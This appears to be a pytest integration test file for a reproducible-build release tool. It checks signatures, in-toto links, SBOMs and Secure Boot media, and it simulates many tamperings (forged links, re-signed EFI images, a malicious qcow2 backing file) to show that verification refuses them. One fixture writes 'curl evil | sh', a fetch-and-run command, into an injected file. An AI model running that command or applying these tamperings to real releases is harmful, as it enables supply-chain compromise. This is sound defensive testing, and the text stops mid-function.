"""mlos-repro release: the signed release directory of a build, checked with the real gpgv,
sha256sum and in-toto's verifier; tampered links and material rules are refused by in-toto."""

from __future__ import annotations

import base64
import datetime
import hashlib
import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import load_pem_private_key
from in_toto.models.metadata import Envelope
from in_toto.verifylib import in_toto_verify
from securesystemslib.signer import CryptoSigner

from tests.conftest import PROJECT, mlos, write_repo
from tests.integration.test_sbom import STAGES
from tests.sigstore_standin import Standin

STAGE_NAMES = ["apt", "bundle", "debs", "efi", "media", "rootfs"]
# An image-like artifact carrying another step's product, and the binding that says so.
BUNDLE = """
[[stage]]
name = "bundle"
outputs = ["bundle.tar"]
run = [["sh", "-euc", "tar --sort=name --mtime=@$SOURCE_DATE_EPOCH --owner=0 --group=0 --numeric-owner -C /in/debs -cf /out/bundle.tar debs/mlos-demo-a.deb"]]
[stage.inputs]
debs = "stage:debs"

[[stage]]
name = "apt"
outputs = ["repo"]
run = [["sh", "-euc", '''
d=/out/repo/dists/mlos; mkdir -p $d/main/binary-amd64; : > $d/main/binary-amd64/Packages
{ printf 'Suite: mlos\\nCodename: mlos\\nDate: Mon, 01 Dec 2025 00:00:00 UTC\\nArchitectures: amd64\\n'
  printf 'Components: main\\nSHA256:\\n %s 0 main/binary-amd64/Packages\\n' $(sha256sum < $d/main/binary-amd64/Packages | cut -c1-64)
} > $d/Release
''']]
"""
# An EFI image, as the uki stage makes them (systemd's stub, made ready for signing by
# pefix.py): the release signs it for Secure Boot.
EFI = """
[[stage]]
name = "efi"
builder = "efi"
outputs = ["toy.efi"]
run = [["sh", "-euc", "cp /usr/lib/systemd/boot/efi/linuxx64.efi.stub /out/toy.efi && python3 /in/tools/pefix.py /out/toy.efi"]]
[stage.inputs]
tools = "path:stage-tools/efi"
"""
# A disk image with an EFI system partition (its boot loader a stand-in, beside another file)
# and a data partition, raw and qcow2, as the disk stage makes them: the release copies both
# with the signed toy.efi as the boot loader.
MEDIA = """
[[stage]]
name = "media"
builder = "image"
outputs = ["disk.raw", "disk.qcow2"]
secureboot = { "disk.raw" = "efi/toy.efi", "disk.qcow2" = "efi/toy.efi" }
run = [["sh", "-euc", '''
truncate -s 8M disk.raw
u=5D2B9A4E-0000-4000-8000-00000000000
printf '%s\\n' 'label: gpt' "label-id: ${u}1" \\
  "start=2048, size=8192, type=C12A7328-F81F-11D2-BA4B-00A0C93EC93B, uuid=${u}2, name=esp" \\
  "size=4096, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, uuid=${u}3, name=data" \\
  | sfdisk --quiet --no-reread --no-tell-kernel disk.raw
TZ=UTC mkfs.fat -C --invariant -i 12345678 -n TOYESP esp.img 4096 >/dev/null
echo 'a boot loader to be replaced' > loader
echo 'set timeout=0' > grub.cfg
TZ=UTC mmd -i esp.img ::/EFI ::/EFI/BOOT ::/boot
TZ=UTC mcopy -i esp.img loader ::/EFI/BOOT/BOOTX64.EFI
TZ=UTC mcopy -i esp.img grub.cfg ::/boot/grub.cfg
dd if=esp.img of=disk.raw bs=512 seek=2048 conv=notrunc status=none
printf 'the root file system' | dd of=disk.raw bs=512 seek=10240 conv=notrunc status=none
mv disk.raw /out/disk.raw
qemu-img convert -f raw -O qcow2 -o compat=1.1 /out/disk.raw /out/disk.qcow2
''']]
"""
BINDING = """
[[binding]]
artifact = "bundle/bundle.tar"
member = "debs/mlos-demo-a.deb"
product = "debs/debs/mlos-demo-a.deb"
"""


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    directory = tmp_path_factory.mktemp("keys") / "k"
    result = mlos("keys", "init", directory)
    assert result.code == 0, result.stderr
    yield directory
    subprocess.run(["gpgconf", "--homedir", str(directory / "gnupg"), "--kill", "gpg-agent"], check=False)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, shared_store: Path) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("release-repo")
    recipes = write_repo(root / "repo", STAGES.replace("@VERSION@", "1.0") + BUNDLE + EFI + MEDIA)
    shutil.copytree(PROJECT / "stage-tools/efi", root / "repo/stage-tools/efi",
                    ignore=shutil.ignore_patterns("__pycache__"))
    (root / "repo/layouts").mkdir()
    (root / "repo/layouts/layout.toml").write_text(BINDING)
    out = root / "out"
    result = mlos("build", "--recipes", recipes, "--out", out, "--store", shared_store)
    assert result.code == 0, result.stderr
    return recipes, out


def release(built: tuple[Path, Path], keys: Path, store: Path, dest: Path) -> Path:
    recipes, out = built
    result = mlos("release", "--keys", keys, "--out", dest, "--from", out, "--recipes", recipes, "--store", store,
                  "--release-version", "1.0")
    assert result.code == 0, result.stderr
    return dest


def owner_key(rel: Path) -> dict[str, Any]:
    key = json.loads((rel / "layout/keys/owner.pub.json").read_text())
    return {key["keyid"]: key}


def payload(path: Path) -> dict[str, Any]:
    decoded: dict[str, Any] = json.loads(base64.b64decode(json.loads(path.read_text())["payload"]))
    return decoded


def test_an_honest_release_verifies(built: tuple[Path, Path], keys: Path, shared_store: Path,
                                    tmp_path: Path) -> None:
    rel = release(built, keys, shared_store, tmp_path / "rel")
    # Every artifact listed and checked by sha256sum itself.
    check = subprocess.run(["sha256sum", "--strict", "-c", "../SHA256SUMS"], cwd=rel / "artifacts",
                           capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    listed = sorted(line.split("  ", 1)[1] for line in (rel / "SHA256SUMS").read_text().splitlines())
    on_disk = sorted(p.relative_to(rel / "artifacts").as_posix() for p in (rel / "artifacts").rglob("*")
                     if p.is_file() and not (p.parent.parent == rel / "artifacts" and p.name.startswith("SHA256SUMS")))
    assert listed == on_disk and "debs/debs/mlos-demo-b.deb" in listed
    # Each stage directory holds its own lines of SHA256SUMS, named from there, for sha256sum
    # run beside a download; together they are SHA256SUMS.
    stages = sorted({name.split("/")[0] for name in listed})
    lines = []
    for stage in stages:
        check = subprocess.run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=rel / "artifacts" / stage,
                               capture_output=True, text=True)
        assert check.returncode == 0, check.stdout + check.stderr
        lines += [f"{stage}/{line.split('  ', 1)[1]}"
                  for line in (rel / "artifacts" / stage / "SHA256SUMS").read_text().splitlines()]
    assert sorted(lines) == listed
    # The archive key's signatures, checked by gpgv against the exported public key.
    keyring = tmp_path / "release.gpg"
    subprocess.run(["gpg", "--batch", "--dearmor", "-o", str(keyring), str(rel / "layout/keys/release.asc")],
                   check=True)
    for argv in (["gpgv", "--keyring", str(keyring), str(rel / "SHA256SUMS.gpg"), str(rel / "SHA256SUMS")],
                 ["gpgv", "--keyring", str(keyring), str(rel / "SHA256SUMS.asc")],
                 *(["gpgv", "--keyring", str(keyring), str(rel / "artifacts" / s / "SHA256SUMS.gpg"),
                    str(rel / "artifacts" / s / "SHA256SUMS")] for s in stages)):
        assert subprocess.run(argv, capture_output=True).returncode == 0, argv
    # SBOMs beside, one per output; the layout, links and provenance as in-toto reads them.
    assert (rel / "sbom/rootfs/rootfs.tar.cdx.json").is_file()
    in_toto_verify(Envelope.load(str(rel / "layout/root.layout")), owner_key(rel),
                   link_dir_path=str(rel / "attestations/links"))
    statement = payload(rel / "attestations/provenance/rootfs/rootfs.tar.intoto.json")
    assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
    sums = {line.split("  ")[1]: line.split("  ")[0] for line in (rel / "SHA256SUMS").read_text().splitlines()}
    assert statement["subject"] == [{"name": "rootfs/rootfs.tar", "digest": {"sha256": sums["rootfs/rootfs.tar"]}}]
    deps = {d["name"] for d in statement["predicate"]["buildDefinition"]["resolvedDependencies"]}
    assert "builder/default" in deps
    sbom = payload(rel / "attestations/sbom/rootfs/rootfs.tar.intoto.json")
    assert sbom["predicate"]["metadata"]["component"]["hashes"][0]["content"] == sums["rootfs/rootfs.tar"]
    lock = json.loads((rel / "inputs.lock").read_text())
    assert lock["profile"] == "small" and set(lock["stages"]) == set(STAGE_NAMES)
    assert lock["builder_lock"]["sha256"]

    # A second release of the same build: the same link and statement bytes (ed25519 is
    # deterministic); only the layout's expiry differs.
    again = release(built, keys, shared_store, tmp_path / "again")
    for path in sorted((rel / "attestations").rglob("*")):
        if path.is_file():
            assert path.read_bytes() == (again / path.relative_to(rel)).read_bytes(), path


def _resign(link: Path, edit: object, key: Path) -> None:
    """Edit a link's payload and sign it again with `key` (a PEM private key)."""
    envelope = json.loads(link.read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
    edit(data)  # type: ignore[operator]
    from in_toto.models.link import Link

    fresh = Envelope.from_signable(Link.read(data))
    fresh.create_signature(CryptoSigner(load_pem_private_key(key.read_bytes(), None)))
    link.write_text(json.dumps(fresh.to_dict()))


def test_in_toto_refuses_tampered_links(built: tuple[Path, Path], keys: Path, shared_store: Path,
                                        tmp_path: Path) -> None:
    rel = release(built, keys, shared_store, tmp_path / "rel")
    links = rel / "attestations/links"
    (link,) = links.glob("rootfs.*.link")

    def verify(directory: Path) -> None:
        in_toto_verify(Envelope.load(str(rel / "layout/root.layout")), owner_key(rel), link_dir_path=str(directory))

    # Edited after signing: the signature no longer holds.
    edited = tmp_path / "edited"
    shutil.copytree(links, edited)
    envelope = json.loads((edited / link.name).read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
    data["products"]["rootfs/rootfs.tar"]["sha256"] = "0" * 64
    envelope["payload"] = base64.b64encode(json.dumps(data).encode()).decode()
    (edited / link.name).write_text(json.dumps(envelope))
    with pytest.raises(Exception, match="validly signed by different authorized functionaries"):
        verify(edited)

    # Signed by a functionary, but a material the debs step never produced: MATCH then DISALLOW.
    smuggled = tmp_path / "smuggled"
    shutil.copytree(links, smuggled)
    _resign(smuggled / link.name, lambda d: d["materials"].update({"debs/debs/evil.deb": {"sha256": "1" * 64}}),
            keys / "attestation/builder.key")
    (debs_link,) = smuggled.glob("debs.*.link")
    data = payload(debs_link)
    assert "debs/debs/evil.deb" not in data["products"]
    with pytest.raises(Exception) as caught:
        verify(smuggled)
    assert "debs/debs/evil.deb" in str(caught.value) and "DISALLOW" in str(caught.value), caught.value

    # Signed by a key that is not a functionary of the step.
    stranger = tmp_path / "stranger"
    shutil.copytree(links, stranger)
    other = CryptoSigner.generate_ed25519()
    pem = tmp_path / "other.key"
    pem.write_bytes(other.private_bytes)
    _resign(stranger / link.name, lambda d: None, pem)
    with pytest.raises(Exception, match="validly signed by different authorized functionaries"):
        verify(stranger)

    # A step's link missing.
    missing = tmp_path / "missing"
    shutil.copytree(links, missing)
    (missing / link.name).unlink()
    with pytest.raises(Exception, match="rootfs"):
        verify(missing)


def test_release_refuses_what_it_cannot_stand_behind(built: tuple[Path, Path], keys: Path, shared_store: Path,
                                                     tmp_path: Path, unique: str) -> None:
    recipes, out = built
    # A stage that was never built: nothing is built by release, nothing is written.
    other = write_repo(tmp_path / "other", STAGES.replace("@VERSION@", "1." + unique[:8]))
    result = mlos("release", "--keys", keys, "--out", tmp_path / "r1", "--recipes", other, "--store", shared_store)
    assert result.code == 2 and "'debs'" in result.stderr and "is not built" in result.stderr
    assert not (tmp_path / "r1").exists()
    # OUT from other recipes than these.
    result = mlos("release", "--keys", keys, "--out", tmp_path / "r2", "--from", out, "--recipes", other,
                  "--store", shared_store)
    assert result.code == 2
    # No keys: exit 5, naming what is missing.
    result = mlos("release", "--keys", tmp_path / "nokeys", "--out", tmp_path / "r3", "--recipes", recipes,
                  "--store", shared_store)
    assert result.code == 5 and "gnupg" in result.stderr
    # A release is written once.
    (tmp_path / "r4").mkdir()
    (tmp_path / "r4/x").write_text("")
    result = mlos("release", "--keys", keys, "--out", tmp_path / "r4", "--recipes", recipes, "--store", shared_store)
    assert result.code == 2 and "not empty" in result.stderr
    assert not list(tmp_path.glob(".r*.partial-*"))


# -- mlos-repro verify and verify-iso: an honest release passes, every tampering is named --------

@pytest.fixture(scope="module")
def honest(built: tuple[Path, Path], keys: Path, shared_store: Path,
           tmp_path_factory: pytest.TempPathFactory) -> Path:
    return release(built, keys, shared_store, tmp_path_factory.mktemp("honest") / "rel")


def verify(rel: Path, keys: Path, root_key: Path | None = None) -> tuple[int, dict[str, Any], str]:
    result = mlos("verify", rel, "--root-key", root_key or keys / "attestation/owner.pub.json",
                  "--keyring", keys / "archive-keyring.gpg", "--json")
    return result.code, json.loads(result.stdout) if result.stdout else {}, result.stderr


def failed(report: dict[str, Any]) -> dict[int, str]:
    return {c["number"]: "\n".join(c["problems"]) for c in report["checks"] if c["status"] == "failed"}


def resign_statement(path: Path, edit: object, key: Path) -> None:
    from securesystemslib.dsse import Envelope as Dsse

    data = payload(path)
    edit(data)  # type: ignore[operator]
    envelope = Dsse(payload=json.dumps(data).encode(), payload_type="application/vnd.in-toto+json", signatures={})
    envelope.sign(CryptoSigner(load_pem_private_key(key.read_bytes(), None)))
    path.write_text(json.dumps(envelope.to_dict()))


def test_an_honest_release_passes_verify(honest: Path, keys: Path) -> None:
    code, report, err = verify(honest, keys)
    assert code == 0, (report, err)
    assert [c["number"] for c in report["checks"]] == list(range(1, 17))
    status = {c["number"]: c["status"] for c in report["checks"]}
    # Only the sigstore check (no --trusted-root) and the rebuilders' (no --rebuild) did not
    # run, and they say so.
    assert {n for n, s in status.items() if s != "passed"} == {11, 14}
    assert status[11] == status[14] == "skipped"
    assert (report["passed"], report["failed"], report["skipped"]) == (14, 0, 2)
    assert report["verdict"] == "release verified, 2 checks skipped"
    assert next(c for c in report["checks"] if c["number"] == 12)["note"] == "1 bindings hold"
    assert "1 repositories signed by" in next(c for c in report["checks"] if c["number"] == 13)["note"]
    assert next(c for c in report["checks"] if c["number"] == 15)["note"] == \
        "1 EFI images signed by CN=MLOS Linux Secure Boot db key"
    assert next(c for c in report["checks"] if c["number"] == 16)["note"] == "2 images boot efi/secureboot/toy.efi"
    # The archive key taken from the release itself: allowed when named, but said.
    text = mlos("verify", honest, "--root-key", keys / "attestation/owner.pub.json", "--keyring",
                honest / "layout/keys/release.asc")
    assert text.code == 0 and "10. ok   SBOMs" in text.stdout
    assert "release.asc is inside the release it verifies" in text.stderr
    assert "release verified, 2 checks skipped" in text.stderr


def tamper_rootfs_link(rel: Path, keys: Path, tmp: Path) -> None:
    (link,) = (rel / "attestations/links").glob("rootfs.*.link")
    envelope = json.loads(link.read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
    data["products"]["rootfs/rootfs.tar"]["sha256"] = "0" * 64
    envelope["payload"] = base64.b64encode(json.dumps(data).encode()).decode()
    link.write_text(json.dumps(envelope))


def non_functionary_link(rel: Path, keys: Path, tmp: Path) -> None:
    (link,) = (rel / "attestations/links").glob("rootfs.*.link")
    pem = tmp / "stranger.key"
    pem.write_bytes(CryptoSigner.generate_ed25519().private_bytes)
    _resign(link, lambda d: None, pem)


def expired_layout(rel: Path, keys: Path, tmp: Path) -> None:
    from in_toto.models.layout import Layout

    envelope = json.loads((rel / "layout/root.layout").read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
    data["expires"] = "2020-01-01T00:00:00Z"
    fresh = Envelope.from_signable(Layout.read(data))
    fresh.create_signature(CryptoSigner(load_pem_private_key((keys / "attestation/owner.key").read_bytes(), None)))
    (rel / "layout/root.layout").write_text(json.dumps(fresh.to_dict()))


def threshold_two(rel: Path, keys: Path, tmp: Path) -> None:
    from in_toto.models.layout import Layout

    envelope = json.loads((rel / "layout/root.layout").read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
    for step in data["steps"]:
        step["threshold"] = 2
    fresh = Envelope.from_signable(Layout.read(data))
    fresh.create_signature(CryptoSigner(load_pem_private_key((keys / "attestation/owner.key").read_bytes(), None)))
    (rel / "layout/root.layout").write_text(json.dumps(fresh.to_dict()))


def resign_sums(rel: Path, keys: Path, tmp: Path) -> None:
    other = tmp / "other-gnupg"
    other.mkdir(mode=0o700)
    from tests.conftest import gpg

    gpg(other, "--quick-gen-key", "Someone else <x@example.org>", "ed25519", "sign", "1d")
    (rel / "SHA256SUMS.gpg").write_bytes(gpg(other, "--armor", "--detach-sign", "-o", "-", str(rel / "SHA256SUMS")))
    subprocess.run(["gpgconf", "--homedir", str(other), "--kill", "gpg-agent"], check=False)


def flip_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    path.write_bytes(bytes(data))


def edit_sums(rel: Path, keys: Path, tmp: Path) -> None:
    target = rel / "artifacts/rootfs/rootfs.tar"
    flip_byte(target)
    sums = (rel / "SHA256SUMS").read_text().splitlines()
    digest = hashlib.sha256(target.read_bytes()).hexdigest()
    (rel / "SHA256SUMS").write_text("".join((f"{digest}  rootfs/rootfs.tar" if line.endswith("  rootfs/rootfs.tar")
                                             else line) + "\n" for line in sums))


def sbom_other_digest(rel: Path, keys: Path, tmp: Path) -> None:
    path = rel / "sbom/rootfs/rootfs.tar.cdx.json"
    data = json.loads(path.read_text())
    data["metadata"]["component"]["hashes"][0]["content"] = "1" * 64
    path.write_text(json.dumps(data))


def sbom_schema_invalid(rel: Path, keys: Path, tmp: Path) -> None:
    path = rel / "sbom/debs/debs.cdx.json"
    data = json.loads(path.read_text())
    data["components"][0]["type"] = "nonsense"
    path.write_text(json.dumps(data))


def provenance_wrong_subject(rel: Path, keys: Path, tmp: Path) -> None:
    def edit(d: dict[str, Any]) -> None:
        d["subject"][0]["digest"]["sha256"] = "2" * 64
    resign_statement(rel / "attestations/provenance/rootfs/rootfs.tar.intoto.json", edit,
                     keys / "attestation/builder.key")


def swap_bundle_member(rel: Path, keys: Path, tmp: Path) -> None:
    """The bundle carries mlos-demo-b under mlos-demo-a's name, and the archive key (stolen, say)
    lists the new bundle: only the owner-signed binding can tell."""
    import tarfile

    with tarfile.open(rel / "artifacts/bundle/bundle.tar", "w") as tar:
        tar.add(rel / "artifacts/debs/debs/mlos-demo-b.deb", arcname="debs/mlos-demo-a.deb")
    signed_by_release_key(rel, keys)


def signed_by_release_key(rel: Path, keys: Path, sums: bytes | None = None,
                          edit: Callable[[dict[str, Any]], object] | None = None) -> None:
    """What someone holding the archive key (but not the owner's or the builder's) can make:
    SHA256SUMS of the artifacts as they now are (or `sums`), and release.json (edited) over
    the files as they now are, both signed."""
    from mlos_repro.attest import release_meta
    from mlos_repro.sign.gpg import GpgSigner

    signer = GpgSigner(keys / "gnupg")
    if sums is None:
        walk = release_meta.walk(rel)
        listing = {n: release_meta.entry_digest(rel / "artifacts" / n) for n in walk.artifacts}
        sums = release_meta.sums_text(listing)
        for directory, text in release_meta.stage_sums(listing).items():
            (rel / "artifacts" / directory / "SHA256SUMS").write_bytes(text)
            (rel / "artifacts" / directory / "SHA256SUMS.gpg").write_bytes(signer.detach(text))
    (rel / "SHA256SUMS").write_bytes(sums)
    (rel / "SHA256SUMS.gpg").write_bytes(signer.detach(sums))
    (rel / "SHA256SUMS.asc").write_bytes(signer.clearsign(sums))
    info = json.loads((rel / "release.json").read_text())
    info["files"] = release_meta.inventory(rel, release_meta.walk(rel).metadata)
    if edit is not None:
        edit(info)
    data = json.dumps(info).encode()
    (rel / "release.json").write_bytes(data)
    (rel / "release.json.gpg").write_bytes(signer.detach(data))


def sums_with(rel: Path, line: str) -> bytes:
    return (rel / "SHA256SUMS").read_bytes() + line.encode() + b"\n"


def other_key(tmp: Path) -> Path:
    """A GnuPG home (tmp/other-gnupg) with a key the release does not know; the test that
    uses it stops its agent."""
    from tests.conftest import gpg

    home = tmp / "other-gnupg"
    home.mkdir(mode=0o700)
    gpg(home, "--quick-gen-key", "Someone else <x@example.org>", "ed25519", "sign", "1d")
    return home


def inject_after_build(rel: Path, keys: Path, tmp: Path, *, with_key: bool) -> None:
    """An extra file in artifacts/, exempted from provenance as 'signed after the build'."""
    (rel / "artifacts/debs/evil.sh").write_text("curl evil | sh\n")
    digest = hashlib.sha256((rel / "artifacts/debs/evil.sh").read_bytes()).hexdigest()

    def edit(info: dict[str, Any]) -> None:
        info["signed_after_build"].append("debs/evil.sh")
    if with_key:
        signed_by_release_key(rel, keys, edit=edit)
        return
    (rel / "SHA256SUMS").write_bytes(sums_with(rel, f"{digest}  debs/evil.sh"))
    info = json.loads((rel / "release.json").read_text())
    edit(info)
    (rel / "release.json").write_text(json.dumps(info))


def swap_apt_keyring(rel: Path, keys: Path, tmp: Path, *, with_key: bool) -> None:
    """The repository's keyring swapped for another key, InRelease re-signed by it."""
    from tests.conftest import gpg

    home = other_key(tmp)
    base = rel / "artifacts/apt/repo/dists/mlos"
    release_bytes = (base / "Release").read_bytes()
    (base / "InRelease").write_bytes(gpg(home, "--clearsign", "-o", "-", stdin=release_bytes))
    (rel / "artifacts/apt/mlos-archive-keyring.gpg").write_bytes(gpg(home, "--export"))
    subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"], check=False)
    if with_key:
        signed_by_release_key(rel, keys)
    else:
        from mlos_repro.attest import release_meta

        walk = release_meta.walk(rel)
        (rel / "SHA256SUMS").write_bytes(release_meta.sums_text(
            {n: release_meta.entry_digest(rel / "artifacts" / n) for n in walk.artifacts}))


def extend_in_release(rel: Path, keys: Path, tmp: Path) -> None:
    """A repository that would outlive its release: InRelease with a later Valid-Until."""
    from mlos_repro.sign.gpg import GpgSigner
    from mlos_repro.sign.repository import with_valid_until

    base = rel / "artifacts/apt/repo/dists/mlos"
    later = datetime.datetime(2099, 1, 1, tzinfo=datetime.UTC)
    (base / "InRelease").write_bytes(GpgSigner(keys / "gnupg").clearsign(
        with_valid_until((base / "Release").read_bytes(), later)))
    signed_by_release_key(rel, keys)


def layout_edit(rel: Path, keys: Path, edit: Callable[[dict[str, Any]], object]) -> None:
    from in_toto.models.layout import Layout

    envelope = json.loads((rel / "layout/root.layout").read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
    edit(data)
    fresh = Envelope.from_signable(Layout.read(data))
    fresh.create_signature(CryptoSigner(load_pem_private_key((keys / "attestation/owner.key").read_bytes(), None)))
    (rel / "layout/root.layout").write_text(json.dumps(fresh.to_dict()))


def duplicate_link(rel: Path, keys: Path, tmp: Path) -> None:
    """Threshold two, and the one functionary's link present twice (the same signature)."""
    threshold_two(rel, keys, tmp)
    (link,) = (rel / "attestations/links").glob("rootfs.*.link")
    shutil.copy(link, link.with_name("rootfs.ffffffff.link"))


def one_key_twice(data: dict[str, Any]) -> None:
    """The builder's key listed again under a made-up key id, and a threshold of two."""
    (keyid, key), = ((k, v) for k, v in data["keys"].items() if k in data["steps"][0]["pubkeys"])
    twin = "f" * 64
    data["keys"][twin] = {**key, "keyid": twin}
    for step in data["steps"]:
        step["pubkeys"] = [keyid, twin]
        step["threshold"] = 2


def mixed_in_link(rel: Path, keys: Path, tmp: Path) -> None:
    """A validly signed link of the rootfs step, but from a build that made other bytes."""
    (link,) = (rel / "attestations/links").glob("rootfs.*.link")
    _resign(link, lambda d: d["products"]["rootfs/rootfs.tar"].update(sha256="3" * 64), keys / "attestation/builder.key")


def fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def symlink_out(rel: Path, tmp: Path) -> None:
    """An artifact replaced by a symlink to an identical copy outside the release."""
    target = rel / "artifacts/debs/debs/mlos-demo-a.deb"
    outside = tmp / "outside.deb"
    shutil.copy(target, outside)
    target.unlink()
    target.symlink_to(outside)


def symlink_zero(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def sign_raw(rel: Path, keys: Path, name: str, data: bytes) -> None:
    """Bytes signed by the archive key as `name` (e.g. a release.json that is no JSON)."""
    from mlos_repro.sign.gpg import GpgSigner

    (rel / name).write_bytes(data)
    (rel / f"{name}.gpg").write_bytes(GpgSigner(keys / "gnupg").detach(data))


def stage_sums_edited(rel: Path, keys: Path, tmp: Path, *, signer_home: Path | None = None,
                      remove: bool = False) -> None:
    """artifacts/rootfs/SHA256SUMS, what a downloader of the rootfs checks with plain tools:
    edited to another digest (signed by the archive key or `signer_home`'s), or removed; the
    release's own SHA256SUMS untouched and release.json signed again over the files as they are."""
    from mlos_repro.sign.gpg import GpgSigner

    path = rel / "artifacts/rootfs/SHA256SUMS"
    if remove:
        path.unlink()
        (rel / "artifacts/rootfs/SHA256SUMS.gpg").unlink()
    else:
        text = re.sub(rb"^[0-9a-f]{64}  rootfs.tar$", b"0" * 64 + b"  rootfs.tar", path.read_bytes(), flags=re.M)
        assert text != path.read_bytes()
        path.write_bytes(text)
        (rel / "artifacts/rootfs/SHA256SUMS.gpg").write_bytes(GpgSigner(signer_home or keys / "gnupg").detach(text))
    signed_by_release_key(rel, keys, (rel / "SHA256SUMS").read_bytes())


def owner_signed_bindings(rel: Path, keys: Path, payload: object) -> None:
    from securesystemslib.dsse import Envelope as Dsse

    envelope = Dsse(payload=json.dumps(payload).encode(), payload_type="application/vnd.mlos-repro.bindings+json",
                    signatures={})
    envelope.sign(CryptoSigner(load_pem_private_key((keys / "attestation/owner.key").read_bytes(), None)))
    (rel / "layout/bindings.json").write_text(json.dumps(envelope.to_dict()))


SIGNED_EFI = "artifacts/efi/secureboot/toy.efi"


def efi_signed_again(rel: Path, keys: Path, tmp: Path, *, other_image: bool = False,
                     other_key: bool = False) -> None:
    """The signed EFI image replaced by one signed with the deployment's db key (misused) or
    another, of the attested image or another; the archive key (stolen, say) lists the result.
    With another key, its certificate goes everywhere the archive key reaches."""
    from mlos_repro.sign import secureboot

    image = tmp / "image.efi"
    shutil.copyfile(rel / "artifacts/efi/toy.efi", image)
    if other_image:
        flip_byte(image)
    db = secureboot.DbKey(keys / "secureboot/db.key", keys / "secureboot/db.crt")
    if other_key:
        db = secureboot.generate(tmp / "other-db", "Someone else's db key")
        shutil.copyfile(db.cert, rel / "artifacts/efi/secureboot/db.crt")
        (rel / "artifacts/efi/secureboot/db.cer").write_bytes(db.der_bytes())
        (rel / "artifacts/efi/secureboot/signing.json").write_text(json.dumps(db.facts()))
    (rel / SIGNED_EFI).write_bytes(secureboot.sign(db, image, "a test image"))
    signed_by_release_key(rel, keys)


def efi_altered(rel: Path, keys: Path, tmp: Path) -> None:
    flip_byte(rel / SIGNED_EFI)
    signed_by_release_key(rel, keys)


def efi_unsigned(rel: Path, keys: Path, tmp: Path) -> None:
    shutil.copyfile(rel / "artifacts/efi/toy.efi", rel / SIGNED_EFI)
    signed_by_release_key(rel, keys)


def efi_dropped(rel: Path, keys: Path, tmp: Path) -> None:
    """No signed image, and release.json (archive key) no longer names it."""
    (rel / SIGNED_EFI).unlink()
    signed_by_release_key(rel, keys, edit=lambda i: i["signed_after_build"].remove("efi/secureboot/toy.efi"))


SIGNED_DISK = "artifacts/media/secureboot/disk.raw"
MEDIA_JSON = "artifacts/media/secureboot/media.json"


def into_esp(image: Path, name: str, data: bytes, tmp: Path) -> None:
    """`data` written as the file `name` of a raw disk image's EFI system partition (mtools)."""
    from mlos_repro.sign import secureboot

    offset, _ = secureboot.esp_extent(image)
    (tmp / "into-esp").write_bytes(data)
    subprocess.run(["mcopy", "-o", "-i", f"{image}@@{offset}", str(tmp / "into-esp"), f"::/{name}"], check=True,
                   capture_output=True)


def medium_edited(rel: Path, keys: Path, tmp: Path, *, esp_file: tuple[str, bytes] | None = None,
                  outside: bool = False, qcow2: bool = False) -> None:
    """The signed disk (or, with qcow2, its qcow2 made from it) changed inside its ESP or
    outside it; the archive key lists the result."""
    disk = rel / SIGNED_DISK
    if qcow2:
        disk = tmp / "disk.raw"
        shutil.copyfile(rel / SIGNED_DISK, disk)
    if esp_file is not None:
        into_esp(disk, *esp_file, tmp)
    if outside:
        with disk.open("r+b") as f:
            f.seek(10240 * 512)
            f.write(b"another root")
    if qcow2:
        target = rel / "artifacts/media/secureboot/disk.qcow2"
        target.unlink()
        subprocess.run(["qemu-img", "convert", "-f", "raw", "-O", "qcow2", str(disk), str(target)], check=True)
    signed_by_release_key(rel, keys)


def medium_booting(rel: Path, keys: Path, tmp: Path, efi: str) -> None:
    """The signed disk booting the unsigned efi/toy.efi, and media.json saying so."""
    into_esp(rel / SIGNED_DISK, "EFI/BOOT/BOOTX64.EFI", (rel / "artifacts/efi/toy.efi").read_bytes(), tmp)
    media = json.loads((rel / MEDIA_JSON).read_text())
    media["media"]["disk.raw"]["efi"] = efi
    (rel / MEDIA_JSON).write_text(json.dumps(media))
    signed_by_release_key(rel, keys)


def medium_undescribed(rel: Path, keys: Path, tmp: Path) -> None:
    media = json.loads((rel / MEDIA_JSON).read_text())
    del media["media"]["disk.qcow2"]
    (rel / MEDIA_JSON).write_text(json.dumps(media))
    signed_by_release_key(rel, keys)


def medium_misshapen(rel: Path, keys: Path, tmp: Path) -> None:
    """A media.json that names the disk's boot loader as a bare string, listed by the archive key."""
    (rel / MEDIA_JSON).write_text(json.dumps({"media": {"disk.raw": "efi/secureboot/toy.efi"}}))
    signed_by_release_key(rel, keys)


def medium_with_backing_file(rel: Path, keys: Path, tmp: Path) -> None:
    """A qcow2 that would make qemu-img read a file of the verifier's host."""
    target = rel / "artifacts/media/secureboot/disk.qcow2"
    target.unlink()
    subprocess.run(["qemu-img", "create", "-f", "qcow2", "-F", "raw", "-b", str(rel / SIGNED_DISK), str(target)],
                   check=True, capture_output=True)
    signed_by_release_key(rel, keys)


def medium_esp_wiped(rel: Path, keys: Path, tmp: Path) -> None:
    from mlos_repro.sign import secureboot

    offset, _ = secureboot.esp_extent(rel / SIGNED_DISK)
    with (rel / SIGNED_DISK).open("r+b") as f:
        f.seek(offset)
        f.write(b"\0" * 512)
    signed_by_release_key(rel, keys)


def link_of_wrong_types(rel: Path, keys: Path, tmp: Path) -> None:
    (link,) = (rel / "attestations/links").glob("debs.*.link")
    envelope = json.loads(link.read_text())
    data = json.loads(base64.b64decode(envelope["payload"]))
